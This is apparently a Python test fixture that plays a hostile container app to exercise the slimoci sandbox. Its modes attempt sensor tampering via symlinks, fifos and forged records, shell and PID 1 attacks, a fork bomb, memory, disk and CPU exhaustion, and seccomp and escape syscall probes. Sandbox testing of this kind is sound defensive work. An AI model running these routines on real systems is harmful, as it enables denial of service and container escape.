"""A hostile app for slimoci's sandbox tests: attack.py MODE [ARGS] (see README.md).

Each mode prints one line saying what it did and (unless the mode says otherwise) serves HTTP on 0.0.0.0:8080
(200 "ok" to every GET) so that slimoci's probe completes, and exits 0 on SIGTERM. Every attempt is caught: the
server starts whatever fails. Standard library only; ctypes for raw syscalls (x86_64 numbers).
"""
import ctypes
import errno
import json
import os
import signal
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

SENSOR_DIR = "/dev/.slimoci"
# Names the sensor's directory is known to hold, besides whatever is in it when the attack starts.
SENSOR_NAMES = ["config.json", "record.json", ".record.tmp", "control.sock", "exec-1.config.json",
                "exec-1.json", "exec-2.config.json", "exec-2.json", "sensor"]
FORGED_RECORD = '{"files":{"/forged":["open"]},"execs":[],"exitCode":0}\n'

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def say(*a):
    print(*a, flush=True)


def warn(*a):
    print(*a, file=sys.stderr, flush=True)


def ename(e):
    return errno.errorcode.get(e, str(e))


def attempt(fn, *a):
    """Runs fn(*a); returns "ok" or the errno's name (or the exception's), never raises."""
    try:
        fn(*a)
        return "ok"
    except OSError as e:
        return ename(e.errno) if e.errno else type(e).__name__
    except Exception as e:  # noqa: BLE001 - an attack must not stop the server
        return type(e).__name__


# --- the server -----------------------------------------------------------------------------------------

class Handler(BaseHTTPRequestHandler):
    timeout = 10  # a stuck client must not hold the (single-threaded) server

    def do_GET(self):
        body = b"ok"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


class Server(HTTPServer):
    # Not threading: under a process limit (fork-bomb) a thread per request could not be made.
    allow_reuse_address = True

    def server_bind(self):
        # HTTPServer's own resolves the host name (getfqdn), which can wait on DNS: start at once instead.
        self.socket.bind(self.server_address)
        self.server_name, self.server_port = "localhost", self.server_address[1]


def on_term(*_):
    os._exit(0)


def serve(background=False, term=True):
    """Serves on :8080 (PORT), in this thread or in a daemon thread. The SIGTERM handler is the main
    thread's, installed here (term=False keeps whatever the mode set)."""
    if term:
        signal.signal(signal.SIGTERM, on_term)
    port = int(os.environ.get("PORT") or 8080)
    httpd = None
    while httpd is None:
        try:
            httpd = Server(("0.0.0.0", port), Handler)
        except OSError as e:
            warn("serve: bind :%d: %s, retrying" % (port, ename(e.errno)))
            time.sleep(0.2)
    if background:
        t = threading.Thread(target=httpd.serve_forever, daemon=True)
        t.start()
        return t
    httpd.serve_forever()


# --- modes ----------------------------------------------------------------------------------------------

def mode_serve(args):
    say("serve: serving on :8080")
    serve()


def write_file(path, text, mode):
    """Writes text to path, created or truncated; O_NONBLOCK so that a fifo there fails (ENXIO) rather than
    blocks."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NONBLOCK | os.O_CLOEXEC, mode)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)


def sensor_dir_round(victim, seen, k):
    """Pass k over the sensor's directory; prints each (attempt, result) pair the first time it is seen. The
    order of the phases turns with k, so that what is left between passes is in turn a symlink, a fifo or a
    forged record."""
    results = []

    def note(what, res):
        results.append((what, res))
        if (what, res) not in seen:
            seen.add((what, res))
            warn("sensor-dir: %s: %s" % (what, res))

    def p(n):
        return os.path.join(SENSOR_DIR, n)

    try:
        names = set(os.listdir(SENSOR_DIR))
        note("list " + SENSOR_DIR, "ok")
    except OSError as e:
        names = set()
        note("list " + SENSOR_DIR, ename(e.errno))
    names |= set(SENSOR_NAMES)
    names.discard(".sensor.new")

    def remove(path):
        if os.path.isdir(path) and not os.path.islink(path):
            os.rmdir(path)
        else:
            os.unlink(path)

    def forge():
        # Over whatever is there (through a symlink, into a fifo), then as a fresh file.
        note("write forged record.json", attempt(write_file, p("record.json"), FORGED_RECORD, 0o644))
        note("remove record.json", attempt(remove, p("record.json")))
        note("create forged record.json", attempt(write_file, p("record.json"), FORGED_RECORD, 0o644))

    def fifo():
        # A writer or reader of the record on the host would block on it.
        note("remove record.json", attempt(remove, p("record.json")))
        note("mkfifo record.json", attempt(os.mkfifo, p("record.json"), 0o666))

    def links():
        # Every name: removed and replaced by a symlink into the victim's directory on the host.
        for n in sorted(names):
            target = os.path.join(victim, n)
            note("remove " + n, attempt(remove, p(n)))
            note("symlink %s -> %s" % (n, target), attempt(os.symlink, target, p(n)))

    phases = [links, fifo, forge]
    for i in range(3):
        phases[(k + 1 + i) % 3]()

    # The sensor binary: overwritten in place (it is running: ETXTBSY), then replaced by a rename, with a
    # script that would leave a mark in the victim's directory if the host ran it.
    script = "#!/bin/sh\ntouch '%s/pwned'\n" % victim

    note("overwrite sensor in place", attempt(write_file, p("sensor"), script, 0o755))

    def replace():
        tmp = p(".sensor.new")
        write_file(tmp, script, 0o755)
        os.chmod(tmp, 0o755)
        os.rename(tmp, p("sensor"))
    note("replace sensor by rename", attempt(replace))

    if k == 0:
        # The control socket: connect and send junk to whatever listens there.
        for kind, name in ((socket.SOCK_SEQPACKET, "seqpacket"), (socket.SOCK_STREAM, "stream")):
            def junk():
                s = socket.socket(socket.AF_UNIX, kind)
                try:
                    s.settimeout(0.2)
                    s.connect(p("control.sock"))
                    s.send(b"\xff" * 4096)
                finally:
                    s.close()
            note("send junk to control.sock (%s)" % name, attempt(junk))
        # The directory itself: moved away and replaced by a symlink (a mount point: EBUSY).
        note("rename " + SENSOR_DIR, attempt(os.rename, SENSOR_DIR, SENSOR_DIR + "-moved"))
        note("symlink %s -> %s" % (SENSOR_DIR, victim), attempt(os.symlink, victim, SENSOR_DIR))
    return results


def mode_sensor_dir(args):
    victim = args[0] if args else "/tmp/victim"
    seen = set()
    res = sensor_dir_round(victim, seen, 0)
    ok = sorted({w for w, r in res if r == "ok"})
    say("sensor-dir: attacked %s (victim %s): %d of %d attempts succeeded, repeating every 50 ms"
        % (SENSOR_DIR, victim, len(ok), len({w for w, _ in res})))

    def loop():
        k = 1
        while True:
            time.sleep(0.05)
            try:
                sensor_dir_round(victim, seen, k)
            except Exception as e:  # noqa: BLE001
                warn("sensor-dir: round: %r" % e)
            k += 1
    threading.Thread(target=loop, daemon=True).start()
    serve()


def mode_record_flood(args):
    n = int(args[0]) if args else 2_000_000
    pad = "/nonexistent/" + "x" * 200
    start = time.monotonic()
    stat = os.stat
    for i in range(n):
        try:
            stat(pad + str(i))
        except OSError:
            pass
    say("record-flood: stat'ed %d distinct paths in %.1f s" % (n, time.monotonic() - start))
    serve()


def mode_fork_bomb(args):
    serve(background=True)
    say("fork-bomb: serving, forking without bound")
    while True:
        try:
            os.fork()  # parent and child both go on forking
        except OSError:
            time.sleep(0.05)
        except Exception:  # noqa: BLE001
            time.sleep(0.05)
        else:
            time.sleep(0.01)


def mode_memory_hog(args):
    serve(background=True)
    say("memory-hog: serving, allocating 64 MiB chunks without bound")
    chunks, page = [], os.sysconf("SC_PAGE_SIZE")
    while True:
        try:
            b = bytearray(64 << 20)
            for i in range(0, len(b), page):
                b[i] = 1
            chunks.append(b)
        except MemoryError:
            time.sleep(0.05)


def mode_disk_fill(args):
    d = args[0] if args else "/"
    serve(background=True)
    say("disk-fill: serving, writing 64 MiB chunks of zeros to %s/fill-N until an error" % d.rstrip("/"))
    chunk, n, total, err = bytes(64 << 20), 0, 0, None
    while err is None:
        path = os.path.join(d, "fill-%d" % n)
        try:
            with open(path, "wb", buffering=0) as f:
                for _ in range(16):  # 1 GiB a file
                    total += f.write(chunk)
        except OSError as e:
            err = e
        n += 1
    say("disk-fill: stopped after %d MiB in %d files: %s" % (total >> 20, n, ename(err.errno)))
    while True:
        time.sleep(3600)


def sys_errno(nr, *args, fd=False):
    """A raw syscall: "OK" or the errno's name; with fd, the descriptor it returns is closed."""
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *args)
    if r < 0:
        return ename(ctypes.get_errno())
    if fd:
        os.close(r)
    return "OK"


def in_child(fn):
    """Runs fn in a forked child (so that an unshare or a mount that works does not change this process) and
    returns what it returned (a string)."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(rd)
            try:
                out = fn()
            except Exception as e:  # noqa: BLE001
                out = type(e).__name__
            os.write(wr, out.encode())
        finally:
            os._exit(0)
    os.close(wr)
    out = b""
    while True:
        b = os.read(rd, 4096)
        if not b:
            break
        out += b
    os.close(rd)
    os.waitpid(pid, 0)
    return out.decode() or "no answer"


def mode_seccomp(args):
    buf = lambda n: ctypes.create_string_buffer(n)  # zeroed  # noqa: E731
    res = {}

    def probe(name, fn):
        try:
            res[name] = fn()
        except Exception as e:  # noqa: BLE001
            res[name] = type(e).__name__

    # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)
    probe("keyctl", lambda: sys_errno(250, ctypes.c_long(0), ctypes.c_long(-3), ctypes.c_long(0)))
    # bpf(BPF_PROG_LOAD, an all-zero attr, its size)
    attr = buf(144)
    probe("bpf", lambda: sys_errno(321, ctypes.c_long(5), attr, ctypes.c_long(144)))
    # userfaultfd(O_CLOEXEC)
    probe("userfaultfd", lambda: sys_errno(323, ctypes.c_long(0o2000000), fd=True))
    # unshare(CLONE_NEWUSER), in a child
    probe("unshare_newuser", lambda: in_child(lambda: sys_errno(272, ctypes.c_long(0x10000000))))
    # io_uring_setup(1, zeroed params)
    params = buf(120)
    probe("io_uring_setup", lambda: sys_errno(425, ctypes.c_long(1), params, fd=True))

    # mount("tmpfs", "/mnt", "tmpfs", 0, NULL), in a child, unmounted again if it worked
    def mnt():
        try:
            os.makedirs("/mnt", exist_ok=True)
        except OSError:
            pass
        r = sys_errno(165, b"tmpfs", b"/mnt", b"tmpfs", ctypes.c_long(0), ctypes.c_void_p(0))
        if r == "OK":
            libc.syscall(ctypes.c_long(166), b"/mnt", ctypes.c_long(0))
        return r
    probe("mount_tmpfs", lambda: in_child(mnt))
    # Extras: the "shocker" escape's open_by_handle_at (needs CAP_DAC_READ_SEARCH), perf_event_open (zeroed
    # attr), init_module (NULL image: EFAULT/ENOEXEC when allowed), add_key.
    def obh():
        fd = os.open("/", os.O_RDONLY)
        try:
            h = buf(8 + 8)
            ctypes.c_uint.from_buffer(h).value = 8  # handle_bytes
            return sys_errno(304, ctypes.c_long(fd), h, ctypes.c_long(0))
        finally:
            os.close(fd)
    probe("open_by_handle_at", obh)
    pattr = buf(128)
    probe("perf_event_open", lambda: sys_errno(298, pattr, ctypes.c_long(0), ctypes.c_long(-1),
                                               ctypes.c_long(-1), ctypes.c_long(0), fd=True))
    probe("init_module", lambda: sys_errno(175, ctypes.c_void_p(0), ctypes.c_long(0), b""))
    probe("add_key", lambda: sys_errno(248, b"user", b"slimoci-hostile", b"x", ctypes.c_long(1),
                                       ctypes.c_long(-3)))
    res["uid"], res["euid"] = os.getuid(), os.geteuid()
    try:
        with open("/proc/self/uid_map") as f:
            res["uid_map"] = f.read().strip()
    except OSError as e:
        res["uid_map"] = ename(e.errno)
    try:
        with open("/proc/self/status") as f:
            for line in f:
                k = line.split(":", 1)[0]
                if k in ("Uid", "CapEff", "NoNewPrivs", "Seccomp"):
                    res[k] = line.split(":", 1)[1].strip()
    except OSError as e:
        res["status"] = ename(e.errno)
    line = json.dumps(res, sort_keys=True)
    say(line)
    try:
        with open("/seccomp-result.json", "w") as f:
            f.write(line + "\n")
    except OSError as e:
        warn("seccomp: writing /seccomp-result.json: %s" % ename(e.errno))
    serve()


def mode_ignore_term(args):
    for s in (signal.SIGTERM, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(rd)
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            os.write(wr, str(os.getpid()).encode())
            os.close(wr)
            os.chdir("/")
            while True:
                time.sleep(3600)
        finally:
            os._exit(0)
    os.close(wr)
    daemon = os.read(rd, 64).decode() or "?"
    os.close(rd)
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass
    say("ignore-term: SIGTERM and SIGINT ignored, daemon pid %s in its own session" % daemon)
    serve(term=False)


def mode_replace_sh(args):
    script = "#!/usr/bin/python3\nimport time\nwhile True: time.sleep(3600)\n"
    done, seen = [], set()
    for path in ("/bin/sh", "/usr/bin/sh", "/bin/bash", "/usr/bin/bash"):
        try:
            if not os.path.lexists(path):
                continue
            # /bin is /usr/bin on a merged-/usr system: replace each file once.
            key = os.path.join(os.path.realpath(os.path.dirname(path)), os.path.basename(path))
            if key in seen:
                continue
            seen.add(key)
            tmp = path + ".hostile"
            with open(tmp, "w") as f:
                f.write(script)
            os.chmod(tmp, 0o755)
            os.rename(tmp, path)  # replaces a symlink (sh -> dash) itself, not its target
            done.append(path)
        except OSError as e:
            warn("replace-sh: %s: %s" % (path, ename(e.errno)))
    say("replace-sh: replaced %s with a script that sleeps forever" % (" ".join(done) or "nothing"))
    serve()


def mode_signal_pid1(args):
    # PID 1 is slimoci's sensor: signals whose default action (or the Go runtime's handler) would end it,
    # and with it the record. (Stop signals, SIGTERM, SIGQUIT, ..., PID 1 forwards to the app: sent from
    # here they would only come back.)
    for name in ("SIGABRT", "SIGTRAP", "SIGSEGV", "SIGBUS", "SIGILL", "SIGFPE", "SIGSYS", "SIGPIPE", "SIGALRM", "SIGXCPU"):
        say("signal-pid1: kill(1, %s): %s" % (name, attempt(os.kill, 1, getattr(signal, name))))
    serve()


def burn():
    while True:
        pass


def mode_cpu_burn(args):
    n = (os.cpu_count() or 1) * 2
    pids = []
    for _ in range(n):  # processes, not threads: one GIL would make threads one CPU
        try:
            pid = os.fork()
            if pid == 0:
                signal.signal(signal.SIGTERM, signal.SIG_DFL)
                burn()
            pids.append(pid)
        except OSError as e:
            warn("cpu-burn: fork: %s" % ename(e.errno))
    say("cpu-burn: %d busy processes, serving" % len(pids))
    serve()


MODES = {
    "serve": mode_serve,
    "sensor-dir": mode_sensor_dir,
    "record-flood": mode_record_flood,
    "fork-bomb": mode_fork_bomb,
    "memory-hog": mode_memory_hog,
    "disk-fill": mode_disk_fill,
    "seccomp": mode_seccomp,
    "ignore-term": mode_ignore_term,
    "replace-sh": mode_replace_sh,
    "cpu-burn": mode_cpu_burn,
    "signal-pid1": mode_signal_pid1,
}

if __name__ == "__main__":
    mode = sys.argv[1] if len(sys.argv) > 1 else "serve"
    fn = MODES.get(mode)
    if fn is None:
        warn("attack.py: unknown mode %r (%s)" % (mode, ", ".join(sorted(MODES))))
        sys.exit(2)
    try:
        fn(sys.argv[2:])
    except Exception as e:  # noqa: BLE001 - whatever failed, the probe must still get an answer
        warn("%s: %r; serving anyway" % (mode, e))
        serve()
